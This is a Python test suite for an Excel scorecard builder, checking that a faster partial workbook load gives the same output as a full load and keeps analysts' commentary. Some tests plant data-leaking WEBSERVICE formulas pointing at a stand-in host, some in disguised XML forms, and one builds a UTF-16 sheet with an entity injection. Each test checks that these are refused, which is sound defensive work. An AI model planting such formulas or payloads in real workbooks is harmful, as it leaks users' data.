"""A build over last month's workbook leaves the sheets it replaces unparsed.

openpyxl is handed the package with our sheets hollowed (inputs/xlsx_hollow.py) and the
commentary is streamed from just the cells it lives in (headless/base_workbook.py). What
these tests hold it to: the workbook written is, part for part, the one the full load
wrote before; the analyst's commentary (text and formulas), own sheets and names
survive; a sheet we replace is not parsed any more (a corrupt cell in it no longer
matters, while the same corruption in the analyst's own sheet is still refused with the
clear message); a formula reaching outside the workbook in any of our sheets is still
refused by name; and the cells read from a hollowed sheet are exactly a full load's.
"""

from __future__ import annotations

import datetime as dt
import io
import zipfile
import xml.etree.ElementTree as ET
from pathlib import Path

import openpyxl
import pytest
from openpyxl.worksheet.formula import ArrayFormula

from xl_scorecard.headless import build as build_module
from xl_scorecard.headless.base_workbook import Base
from xl_scorecard.inputs.xlsx_hollow import HollowPackage, hollow_package
from xl_scorecard.layout.commentary import read_commentary
from xl_scorecard.layout.scorecard import COMMENTARY_COL, HEADER_ROW, ID_COL

from conftest import REPO_ROOT

SYNTHETIC = REPO_ROOT / "workbooks" / "synthetic_kent_scs_2012-2014.csv"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _build(run_cli, out: Path, month="2012-05") -> tuple[int, str]:
    code, _, err = run_cli("build", "--data", SYNTHETIC, "--month", month, "--out", out)
    return code, err


def _analyst_edits(path: Path) -> None:
    """What an analyst does to last month's workbook: commentary as text and as formulas
    on both sheets, a sheet of their own with a chart, a comment, a name and print titles."""
    book = openpyxl.load_workbook(path)
    ws = book["Scorecard"]
    ids = {ws.cell(r, ID_COL).value: r for r in range(HEADER_ROW + 1, ws.max_row + 1)}
    ws.cell(ids["SCS20"], COMMENTARY_COL).value = "Audit backlog cleared in June."
    ws.cell(ids["SCS31"], COMMENTARY_COL).value = '="See "&"the plan"'
    ws.cell(ids["SCS01"], COMMENTARY_COL).value = ArrayFormula(
        f"{ws.cell(ids['SCS01'], COMMENTARY_COL).coordinate}", '=UPPER("array note")')
    ex = book["Exceptions"]
    current = None
    for r in range(1, ex.max_row + 1):
        current = ex.cell(r, 6).value or current
        if current == "SCS31" and ex.cell(r, 1).value == "Commentary":
            ex.cell(r, 2).value = "Three long-running plans end in July."
    notes = book.create_sheet("Analyst notes")
    notes["A1"], notes["B1"], notes["A2"], notes["B2"] = "Month", "Note", dt.date(2012, 5, 1), 7
    notes["C2"] = "=B2*2"
    notes["A1"].comment = openpyxl.comments.Comment("mine", "analyst")
    chart = openpyxl.chart.BarChart()
    chart.add_data(openpyxl.chart.Reference(notes, min_col=2, min_row=1, max_row=2), titles_from_data=True)
    notes.add_chart(chart, "E2")
    notes.print_title_rows = "1:1"
    book.defined_names["MyNote"] = openpyxl.workbook.defined_name.DefinedName(
        "MyNote", attr_text="'Analyst notes'!$B$2")
    book.save(path)


def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist() if name != "docProps/core.xml"}


def _full_load(monkeypatch) -> None:
    """The build as it was before: openpyxl loads every sheet, commentary read from its cells."""
    monkeypatch.setattr(build_module, "hollow_package", lambda path, names: HollowPackage(Path(path), {}, []))
    monkeypatch.setattr(build_module, "read_base", lambda wb, package: Base(wb, read_commentary(wb), {}))


@pytest.fixture(scope="module")
def last_month(tmp_path_factory):
    """Last month's workbook, edited by the analyst, and the same rebuilt the old way."""
    from xl_scorecard import cli

    folder = tmp_path_factory.mktemp("last")
    out = folder / "scorecard.xlsx"
    assert cli.run(["build", "--data", str(SYNTHETIC), "--month", "2012-05", "--out", str(out)],
                   io.StringIO(), io.StringIO()) == 0
    _analyst_edits(out)
    return out


def _copy(source: Path, folder: Path, name="scorecard.xlsx") -> Path:
    target = folder / name
    target.write_bytes(source.read_bytes())
    return target


@pytest.mark.parametrize("month", ["2012-05", "2012-04"])  # April: SCS31's commentary is archived
def test_the_rebuilt_workbook_is_part_for_part_what_the_full_load_wrote(tmp_path, last_month, run_cli,
                                                                         monkeypatch, month):
    (tmp_path / "new").mkdir(), (tmp_path / "old").mkdir()
    new = _copy(last_month, tmp_path / "new")
    assert _build(run_cli, new, month) == (0, "")
    with monkeypatch.context() as patch:
        _full_load(patch)
        old = _copy(last_month, tmp_path / "old")
        assert _build(run_cli, old, month) == (0, "")
    new_parts, old_parts = _parts(new), _parts(old)
    assert sorted(new_parts) == sorted(old_parts)
    different = [name for name in new_parts if new_parts[name] != old_parts[name]]
    assert different == []


def test_a_macro_workbook_rebuilt_is_part_for_part_what_the_full_load_wrote(tmp_path, last_month, run_cli,
                                                                          monkeypatch):
    from test_headless import _with_vba

    payload = bytes(range(256)) * 4
    (tmp_path / "new").mkdir(), (tmp_path / "old").mkdir()
    new, old = tmp_path / "new" / "scorecard.xlsm", tmp_path / "old" / "scorecard.xlsm"
    _with_vba(last_month, new, payload)
    _with_vba(last_month, old, payload)
    assert _build(run_cli, new) == (0, "")
    with monkeypatch.context() as patch:
        _full_load(patch)
        assert _build(run_cli, old) == (0, "")
    new_parts, old_parts = _parts(new), _parts(old)
    assert new_parts["xl/vbaProject.bin"] == payload
    assert sorted(new_parts) == sorted(old_parts)
    assert [name for name in new_parts if new_parts[name] != old_parts[name]] == []


def test_commentary_own_sheets_and_names_survive_the_hollow_path(tmp_path, last_month, run_cli, monkeypatch):
    out = _copy(last_month, tmp_path)
    hollowed = []
    real = build_module.hollow_package

    def spy(path, names):
        package = real(path, names)
        hollowed.append(list(package.xml))
        return package

    monkeypatch.setattr(build_module, "hollow_package", spy)
    assert _build(run_cli, out) == (0, "")
    assert hollowed == [["Scorecard", "Summary", "Exceptions", "Trend", "Data", "Rules"]]
    book = openpyxl.load_workbook(out)
    kept = read_commentary(book)
    assert kept["Scorecard"]["SCS20"] == "Audit backlog cleared in June."
    assert kept["Scorecard"]["SCS31"] == '="See "&"the plan"'  # still a formula
    assert kept["Scorecard"]["SCS01"] == '=UPPER("array note")'
    assert kept["Exceptions"] == {"SCS31": "Three long-running plans end in July."}
    notes = book["Analyst notes"]
    assert book.sheetnames[-1] == "Analyst notes"
    assert [c.value for c in notes[2]][:3] == [dt.datetime(2012, 5, 1), 7, "=B2*2"]
    assert notes["A1"].comment.text == "mine" and len(notes._charts) == 1
    assert notes.print_title_rows == "$1:$1" and book.defined_names["MyNote"].attr_text == "'Analyst notes'!$B$2"


@pytest.mark.libreoffice
def test_a_workbook_libreoffice_saved_rebuilds_as_the_full_load_did(tmp_path, last_month, run_cli,
                                                                    monkeypatch):
    """Another program's package (shared strings, its own styles and part names): the same
    parts, and every cell's value and look as the full load wrote them. Only styles.xml may
    differ: the full load re-bordered the merged ranges of the sheets then removed, leaving
    border records no cell uses."""
    import shutil
    import subprocess

    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed")
    saved = tmp_path / "saved"
    subprocess.run([soffice, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless",
                    "--convert-to", "xlsx", "--outdir", str(saved), str(last_month)],
                   check=True, capture_output=True, timeout=180)
    (tmp_path / "new").mkdir(), (tmp_path / "old").mkdir()
    new, old = _copy(saved / last_month.name, tmp_path / "new"), _copy(saved / last_month.name, tmp_path / "old")
    with zipfile.ZipFile(new) as archive:
        assert "xl/sharedStrings.xml" in archive.namelist()
    assert _build(run_cli, new) == (0, "")
    with monkeypatch.context() as patch:
        _full_load(patch)
        assert _build(run_cli, old) == (0, "")
    new_parts, old_parts = _parts(new), _parts(old)
    assert sorted(new_parts) == sorted(old_parts)
    assert [name for name in new_parts if new_parts[name] != old_parts[name]] in ([], ["xl/styles.xml"])
    a, b = openpyxl.load_workbook(new), openpyxl.load_workbook(old)
    assert a.sheetnames == b.sheetnames and "Analyst notes" in a.sheetnames
    looks = ("value", "font", "border", "fill", "number_format", "alignment", "protection")
    for ws_a, ws_b in zip(a.worksheets, b.worksheets):
        cells_a = [[repr(getattr(c, k)) for k in looks] for row in ws_a.iter_rows() for c in row]
        cells_b = [[repr(getattr(c, k)) for k in looks] for row in ws_b.iter_rows() for c in row]
        assert cells_a == cells_b, ws_a.title
    kept = read_commentary(a)
    assert kept["Scorecard"]["SCS20"] == "Audit backlog cleared in June."
    assert kept["Scorecard"]["SCS31"] == '="See "&"the plan"'


# --------------------------------------------------------------------------- not parsed any more


def _sheet_part(path: Path, title: str) -> str:
    with zipfile.ZipFile(path) as archive:
        workbook = ET.fromstring(archive.read("xl/workbook.xml"))
        rels = ET.fromstring(archive.read("xl/_rels/workbook.xml.rels"))
    rid = next(s.get(f"{{{REL}}}id") for s in workbook.iter(f"{{{MAIN}}}sheet") if s.get("name") == title)
    target = next(r.get("Target") for r in rels if r.get("Id") == rid)
    return target.lstrip("/") if target.startswith("/") else f"xl/{target}"


def _rewrite(path: Path, part: str, change) -> None:
    with zipfile.ZipFile(path) as archive:
        items = [(info, archive.read(info)) for info in archive.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in items:
            archive.writestr(info, change(data) if info.filename == part else data)


def _corrupt_cell(data: bytes) -> bytes:
    """A cell naming a style the workbook does not have: openpyxl cannot load such a sheet."""
    return data.replace(b"<sheetData>", b'<sheetData><row r="1"><c r="ZZ1" s="99999"><v>1</v></c></row>', 1)


@pytest.mark.parametrize("sheet", ["Trend", "Data", "Summary"])
def test_a_corrupt_cell_in_a_sheet_we_replace_no_longer_matters(tmp_path, last_month, run_cli, sheet):
    out = _copy(last_month, tmp_path)
    _rewrite(out, _sheet_part(out, sheet), _corrupt_cell)
    assert _build(run_cli, out) == (0, "")
    assert "ZZ1" not in [c.coordinate for row in openpyxl.load_workbook(out)[sheet].iter_rows() for c in row]


def test_the_same_corruption_in_the_analysts_sheet_is_still_the_clear_message(tmp_path, last_month, run_cli):
    out = _copy(last_month, tmp_path)
    before = out.read_bytes()
    _rewrite(out, _sheet_part(out, "Analyst notes"), _corrupt_cell)
    corrupt = out.read_bytes()
    code, err = _build(run_cli, out)
    assert code == 2 and err.count("\n") == 1 and "Traceback" not in err
    assert "cannot be opened as a workbook" in err and "this is the existing output workbook" in err
    assert out.read_bytes() == corrupt != before  # left unchanged


def test_a_sheet_we_read_commentary_from_still_gives_the_clear_message_when_malformed(tmp_path, last_month,
                                                                                        run_cli):
    out = _copy(last_month, tmp_path)
    _rewrite(out, _sheet_part(out, "Scorecard"), lambda data: data.replace(b"</sheetData>", b"<row>", 1))
    code, err = _build(run_cli, out)
    assert code == 2 and "cannot be opened as a workbook" in err and "existing output" in err


@pytest.mark.parametrize("sheet,cell", [("Trend", "B2"), ("Data", "H3"), ("Scorecard", None),
                                        ("Exceptions", "J5")])
def test_a_formula_reaching_outside_in_any_sheet_we_replace_is_still_refused_by_name(tmp_path, last_month,
                                                                                   run_cli, sheet, cell):
    out = _copy(last_month, tmp_path)
    book = openpyxl.load_workbook(out)
    ws = book[sheet]
    if cell is None:  # a commentary cell
        cell = ws.cell(HEADER_ROW + 2, COMMENTARY_COL).coordinate
    ws[cell] = '=WEBSERVICE("https://example.invalid/?"&A1)'
    book.save(out)
    code, err = _build(run_cli, out)
    assert code == 2 and f"{sheet}!{cell} calls WEBSERVICE" in err


# --------------------------------------------------------------------------- exactly a full load's cells


CRAFTED_SHEET = f"""<worksheet xmlns="{MAIN}"><sheetData>
<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="inlineStr"><is><t>Name</t></is></c><c r="C1" t="s"><v>1</v></c></row>
<row r="2"><c r="A2" t="str"><v>K1</v></c><c r="C2" t="s"><v>2</v></c>
 <c r="D2"><f t="shared" ref="D2:D4" si="0">A2&amp;B2</f><v>x</v></c></row>
<row r="3"><c r="A3" t="inlineStr"><is><t>K2</t></is></c><c r="C3" t="b"><v>1</v></c><c r="D3"><f t="shared" si="0"/></c></row>
<row r="4"><c r="A4" t="inlineStr"><is><t>K3</t></is></c><c r="B4" s="1"><v>41030</v></c><c r="C4"><v>3.5</v></c>
 <c r="D4"><f t="shared" si="0"/></c></row>
<row r="5"><c r="C5"><f t="array" ref="C5">SUM(A1:A2)</f></c></row>
<row><c r="B6" t="inlineStr"><is><t>shown</t></is></c><c r="C6" t="inlineStr"><is><t>hidden</t></is></c><c><v>9</v></c></row>
</sheetData><mergeCells count="1"><mergeCell ref="B6:C6"/></mergeCells></worksheet>""".encode()
SHARED_STRINGS = f"""<sst xmlns="{MAIN}" count="3" uniqueCount="3"><si><t>ID</t></si><si><t>Commentary</t></si>
<si><t>note one</t></si></sst>""".encode()


def _crafted(path: Path) -> None:
    """A sheet as Excel writes it: shared strings, a shared formula, a date, a boolean, an
    array formula, a row and a cell without a reference, a merged range whose hidden cell
    still holds text."""
    book = openpyxl.Workbook()
    book.active.title = "Scorecard"
    book.active["A1"] = dt.datetime(2012, 5, 1)  # so that style 1 is a date format
    book.create_sheet("Mine")["A1"] = "kept"
    book.save(path)
    with zipfile.ZipFile(path) as archive:
        items = {name: archive.read(name) for name in archive.namelist()}
    items[_sheet_part(path, "Scorecard")] = CRAFTED_SHEET
    items["xl/sharedStrings.xml"] = SHARED_STRINGS
    items["[Content_Types].xml"] = items["[Content_Types].xml"].replace(b"</Types>", (
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>'))
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in items.items():
            archive.writestr(name, data)


def _plain(value):
    return ("array", value.ref, value.text) if isinstance(value, ArrayFormula) else value


def test_cells_read_from_a_hollowed_sheet_are_a_full_loads(tmp_path):
    path = tmp_path / "crafted.xlsx"
    _crafted(path)
    full = openpyxl.load_workbook(path, keep_links=False)["Scorecard"]
    expected = {(c.row, c.column): (_plain(c.value), c.data_type) for row in full.iter_rows() for c in row
                if c.value is not None}
    package = hollow_package(path, ["Scorecard"])
    workbook = openpyxl.load_workbook(package.source, keep_links=False)
    assert workbook.sheetnames == ["Scorecard", "Mine"] and workbook["Scorecard"].max_row == 1
    assert workbook["Mine"]["A1"].value == "kept"
    cells = {key: (_plain(value), kind) for key, (value, kind) in package.book(workbook).cells("Scorecard").items()}
    assert cells == expected
    assert cells[(1, 3)] == ("Commentary", "s") and cells[(4, 2)] == (dt.datetime(2012, 5, 1), "d")
    assert cells[(3, 4)][0] == "=A3&B3"  # the shared formula, translated as openpyxl does
    assert package.book(workbook).formula_texts("Scorecard") == ["A2&B2", "SUM(A1:A2)"]
    assert (6, 3) not in cells and cells[(6, 4)] == (9, "n")  # merged away; placed after C6
    only_column_c = {key: (_plain(value), kind) for key, (value, kind)
                     in package.book(workbook).cells("Scorecard", lambda row, column, found: column == 3).items()}
    # the wanted cells, every formula (a shared one's master may be anywhere), and D6, whose
    # column is known only by parsing it
    assert only_column_c == {k: v for k, v in expected.items() if k[1] == 3 or v[1] == "f" or k == (6, 4)}


def test_titles_differing_only_in_case_are_not_hollowed(tmp_path):
    path = tmp_path / "twice.xlsx"
    book = openpyxl.Workbook()
    book.active.title = "scorecard"
    book.create_sheet("Other")
    book.save(path)
    _rewrite(path, "xl/workbook.xml", lambda data: data.replace(b'name="Other"', b'name="Scorecard"'))
    package = hollow_package(path, ["Scorecard"])
    assert package.xml == {} and package.source == path


@pytest.mark.parametrize("ref", ["B2:C3", "A1:XFD1048576", "C3", "D1:D9"])
def test_a_merged_range_empties_its_cells_but_the_top_left_one_however_large(ref):
    from openpyxl.worksheet.cell_range import CellRange

    from xl_scorecard.inputs.xlsx_hollow import _clean_merged

    cells = {(row, column): (row * 10 + column, "n") for row in range(1, 6) for column in range(1, 6)}
    span = CellRange(ref)
    expected = {key: value for key, value in cells.items()
                if key == (span.min_row, span.min_col) or (key[0], key[1]) not in
                {(r, c) for r in range(span.min_row, min(span.max_row, 6) + 1)
                 for c in range(span.min_col, min(span.max_col, 6) + 1)}}
    _clean_merged(cells, ref)
    assert cells == expected


def test_a_scorecard_whose_header_row_comes_last_in_the_file_is_still_read(tmp_path):
    """Rows out of order (the header row written after the rows under it): the columns chosen
    too early are noticed and the sheet is read again in full."""
    from xl_scorecard.headless.base_workbook import read_base

    path = tmp_path / "late.xlsx"
    book = openpyxl.Workbook()
    book.active.title = "Scorecard"
    book.save(path)
    late = (f'<worksheet xmlns="{MAIN}"><sheetData>'
            '<row r="50"><c r="B50" t="inlineStr"><is><t>K7</t></is></c>'
            '<c r="D50" t="inlineStr"><is><t>kept note</t></is></c></row>'
            '<row r="5"><c r="B5" t="inlineStr"><is><t>ID</t></is></c>'
            '<c r="D5" t="inlineStr"><is><t>Commentary</t></is></c></row>'
            '</sheetData></worksheet>').encode()
    _rewrite(path, _sheet_part(path, "Scorecard"), lambda data: late)
    package = hollow_package(path, ["Scorecard"])
    base = read_base(openpyxl.load_workbook(package.source, keep_links=False), package)
    assert base.commentary["Scorecard"] == read_commentary(openpyxl.load_workbook(path))["Scorecard"]
    assert base.commentary["Scorecard"] == {"K7": "kept note"}


def _inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


_NOTES_ABOVE = "".join(f'<row r="{r}">{_inline(f"A{r}", f"note {r}")}</row>' for r in range(1, 60))
_HEADER_AT_60 = f'<row r="60">{_inline("B60", "ID")}{_inline("D60", "Commentary")}</row>'
_BELOW_60 = (f'<row r="61">{_inline("A61", "x")}{_inline("B61", "K7")}{_inline("C61", "y")}'
             f'{_inline("D61", "kept note")}</row>')


@pytest.mark.parametrize("rows, expected", [
    # the analyst inserted 59 rows of notes above the header
    (_NOTES_ABOVE + _HEADER_AT_60 + _BELOW_60, {"K7": "kept note"}),
    # the header row's cells carry no reference (some writers leave it out)
    (_NOTES_ABOVE + '<row r="60"><c t="inlineStr"><is><t>x</t></is></c><c t="inlineStr"><is><t>ID</t></is></c>'
     '<c t="inlineStr"><is><t>y</t></is></c><c t="inlineStr"><is><t>Commentary</t></is></c></row>'
     + _BELOW_60, {"K7": "kept note"}),
    # an earlier row labelled ID and Commentary in other columns is the header
    ('<row r="3">' + _inline("A3", "Commentary") + _inline("C3", "ID") + '</row>' + _NOTES_ABOVE[
        _NOTES_ABOVE.index('<row r="4">'):] + _HEADER_AT_60 + _BELOW_60, {"y": "x"}),
    # no header at all: nothing is taken for commentary
    (_NOTES_ABOVE + _BELOW_60, {}),
], ids=["header at row 60", "header cells without references", "first header wins", "no header"])
def test_the_scorecard_header_is_found_however_far_down(tmp_path, rows, expected):
    """Rows the analyst inserted above the header do not cost their commentary; the streamed
    read agrees with a full load."""
    from xl_scorecard.headless.base_workbook import read_base

    path = tmp_path / "low.xlsx"
    book = openpyxl.Workbook()
    book.active.title = "Scorecard"
    book.save(path)
    xml = f'<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'.encode()
    _rewrite(path, _sheet_part(path, "Scorecard"), lambda data: xml)
    package = hollow_package(path, ["Scorecard"])
    base = read_base(openpyxl.load_workbook(package.source, keep_links=False), package)
    assert base.commentary["Scorecard"] == read_commentary(openpyxl.load_workbook(path))["Scorecard"]
    assert base.commentary["Scorecard"] == expected


def test_rows_inserted_above_the_scorecard_header_keep_its_commentary(run_cli, tmp_path):
    out = tmp_path / "scorecard.xlsx"
    assert _build(run_cli, out)[0] == 0
    book = openpyxl.load_workbook(out)
    ws = book["Scorecard"]
    ws.insert_rows(1, 45)
    row = next(r for r in range(1, ws.max_row + 1) if ws.cell(r, ID_COL).value == "SCS20")
    assert row > 45 + HEADER_ROW
    ws.cell(row, COMMENTARY_COL).value = "Audit backlog cleared in June."
    book.save(out)
    code, err = _build(run_cli, out, month="2012-06")
    assert code == 0, err
    ws = openpyxl.load_workbook(out)["Scorecard"]
    kept = {ws.cell(r, ID_COL).value: ws.cell(r, COMMENTARY_COL).value for r in range(1, ws.max_row + 1)}
    assert kept["SCS20"] == "Audit backlog cleared in June."


# --------------------------------------------------------------------------- where the hollow path steps aside
# (each found by a review: the full load is what these files get, as before)


def _old_and_new(path: Path, monkeypatch, keep_vba=False):
    """(commentary, refusal) through the hollow path and through the full load."""
    def opened():
        try:
            base = build_module._open_base(path, keep_vba, replaced=REPLACED)
        except Exception as exc:  # noqa: BLE001 - compared, not raised
            return "refused", type(exc).__name__
        try:
            build_module.refuse_active_content(base.workbook, str(path), read_apart=base.formulas)
        except Exception as exc:  # noqa: BLE001
            return base.commentary, str(exc)
        return base.commentary, None

    new = opened()
    with monkeypatch.context() as patch:
        _full_load(patch)
        old = opened()
    return new, old


REPLACED = ["Scorecard", "Summary", "Exceptions", "Trend", "Data", "Rules", "Comparators"]


def test_commentary_is_read_when_titles_differing_in_case_stop_the_hollowing(tmp_path, last_month,
                                                                             monkeypatch, run_cli):
    out = _copy(last_month, tmp_path)
    book = openpyxl.load_workbook(out)
    book.create_sheet("Notes")
    book.create_sheet("Other")
    book.save(out)
    _rewrite(out, "xl/workbook.xml", lambda data: data.replace(b'name="Other"', b'name="notes"'))
    new, old = _old_and_new(out, monkeypatch)
    assert new == old and new[0]["Scorecard"]["SCS20"] == "Audit backlog cleared in June."
    assert _build(run_cli, out) == (0, "")
    kept = read_commentary(openpyxl.load_workbook(out))
    assert kept["Scorecard"]["SCS20"] == "Audit backlog cleared in June."
    assert kept["Exceptions"]["SCS31"] == "Three long-running plans end in July."


def _utf16_with_entity(data: bytes) -> bytes:
    text = data.decode("utf-8")
    text = text[text.index("?>") + 2:] if text.startswith("<?xml") else text
    text = text.replace("Audit backlog cleared in June.", "&note;")
    return ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE worksheet '
            '[<!ENTITY note "entity-injected note">]>' + text).encode("utf-16")


def test_a_sheet_in_utf16_declaring_an_entity_is_refused_as_before(tmp_path, last_month, monkeypatch,
                                                                   run_cli):
    """A byte scan for DOCTYPE misses UTF-16; such a sheet goes to openpyxl's defused load,
    which refuses it, instead of a parser that would expand its entity."""
    out = _copy(last_month, tmp_path)
    _rewrite(out, _sheet_part(out, "Scorecard"), _utf16_with_entity)
    new, old = _old_and_new(out, monkeypatch)
    assert new == old == ("refused", "WorkbookError")
    before = out.read_bytes()
    code, err = _build(run_cli, out)
    assert code == 2 and "cannot be opened as a workbook" in err and out.read_bytes() == before


@pytest.mark.parametrize("written", [
    b"<f>WEBSERVICE(&quot;https://example.invalid/&quot;)</f >",              # a close tag with a space
    b"<f>\"&amp;quot;\"&amp;WEBSERVICE(&quot;https://example.invalid/&quot;)</f>",  # &amp; then quot
    b"<x\xc3\xa9:f xmlns:x\xc3\xa9=\"" + MAIN.encode() + b"\">WEBSERVICE(1)</x\xc3\xa9:f>",  # a prefix
    b"<f><![CDATA[WEBSERVICE(1)]]></f>",                                     # CDATA
])
def test_a_formula_however_written_in_a_sheet_we_replace_is_still_refused(tmp_path, last_month,
                                                                         monkeypatch, written):
    out = _copy(last_month, tmp_path)
    cell = b'<row r="9999"><c r="B9999">' + written + b"<v>0</v></c></row></sheetData>"
    _rewrite(out, _sheet_part(out, "Trend"), lambda data: data.replace(b"</sheetData>", cell, 1))
    new, old = _old_and_new(out, monkeypatch)
    assert old[1] is not None and "Trend!B9999 calls WEBSERVICE" in old[1]
    assert new == old


@pytest.mark.parametrize("extra", [
    b'<mergeCell ref="M30:N30"/>',                                            # outside mergeCells
    b'<mergeCells count="1"><mergeCell ref="M30:N30"/></mergeCells>',         # an earlier list
])
def test_only_the_merged_ranges_openpyxl_honours_empty_cells(tmp_path, last_month, monkeypatch, extra):
    out = _copy(last_month, tmp_path)
    ws = openpyxl.load_workbook(out)["Scorecard"]
    row = next(r for r in range(HEADER_ROW + 1, ws.max_row + 1) if ws.cell(r, ID_COL).value == "SCS20")
    ref = f"{openpyxl.utils.get_column_letter(COMMENTARY_COL - 1)}{row}:" \
          f"{openpyxl.utils.get_column_letter(COMMENTARY_COL)}{row}".encode()
    extra = extra.replace(b"M30:N30", ref)
    _rewrite(out, _sheet_part(out, "Scorecard"), lambda data: data.replace(b"</sheetData>",
                                                                             b"</sheetData>" + extra, 1))
    new, old = _old_and_new(out, monkeypatch)
    assert new == old and new[0]["Scorecard"]["SCS20"] == "Audit backlog cleared in June."


def test_a_part_an_analysts_sheet_also_shows_is_not_emptied(tmp_path, last_month, run_cli):
    out = _copy(last_month, tmp_path)
    summary = _sheet_part(out, "Summary")
    notes = _sheet_part(out, "Analyst notes")
    _rewrite(out, "xl/_rels/workbook.xml.rels",
             lambda data: data.replace(notes.removeprefix("xl/").encode(), summary.removeprefix("xl/").encode()))
    assert hollow_package(out, REPLACED).xml == {}
    shown = openpyxl.load_workbook(out)["Analyst notes"].max_row
    assert shown > 10  # it shows Summary's part
    assert _build(run_cli, out) == (0, "")
    assert openpyxl.load_workbook(out)["Analyst notes"].max_row == shown


def test_a_template_openpyxl_does_not_open_is_refused_as_before(tmp_path, last_month, run_cli):
    template = _copy(last_month, tmp_path, "template.zip")
    code, _, err = run_cli("build", "--data", SYNTHETIC, "--month", "2012-05", "--template", template,
                           "--out", tmp_path / "new.xlsx")
    assert code == 2 and "template.zip" in err and "Traceback" not in err
    assert not (tmp_path / "new.xlsx").exists()
